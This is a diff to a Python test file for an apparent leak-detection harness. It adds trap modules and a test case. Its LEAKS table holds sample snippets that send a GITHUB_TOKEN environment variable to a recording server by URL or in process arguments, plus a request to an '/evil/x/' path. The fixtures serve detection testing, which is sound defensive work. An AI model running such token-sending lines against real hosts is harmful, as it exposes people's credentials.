@@ -11,7 +11,7 @@ from collections.abc import Callable, Iterator
 from pathlib import Path
 
 import pytest
-from repositories import of_git, of_hosts
+from repositories import of_git, of_hosts, of_inputs, of_javascript, of_packages, of_stores
 from repositories.making import PYTHON, TRAPS, Repository, Trap
 from repositories.noticing import COMMAND, noticed
 from repositories.operators import Operator, Recorder, canary, operator, recording
@@ -22,7 +22,7 @@ pytestmark = [
     pytest.mark.skipif(why_not() is not None, reason=f"nothing can be traced: {why_not()}"),
 ]
 
-MODULES = (of_git, of_hosts)
+MODULES = (of_git, of_hosts, of_inputs, of_javascript, of_packages, of_stores)
 SECONDS = 120
 """How long a command may take on a busy machine: the longest takes a sixth."""
 
@@ -85,6 +85,10 @@ LEAKS = {
         "urllib.request.build_opener(urllib.request.ProxyHandler({})).open("
         "f'{recorder}/' + os.environ['GITHUB_TOKEN'])",
         "leaked: {secret} in a request",
+    ),
+    "a request for another thing than a package of the index": (
+        "urllib.request.build_opener(urllib.request.ProxyHandler({})).open(f'{recorder}/evil/x/')",
+        "asked: GET /evil/x/",
     ),
     "a variable in the arguments": (
         "subprocess.run([sys.executable, '-I', '-c', '', os.environ['GITHUB_TOKEN']], env={})",
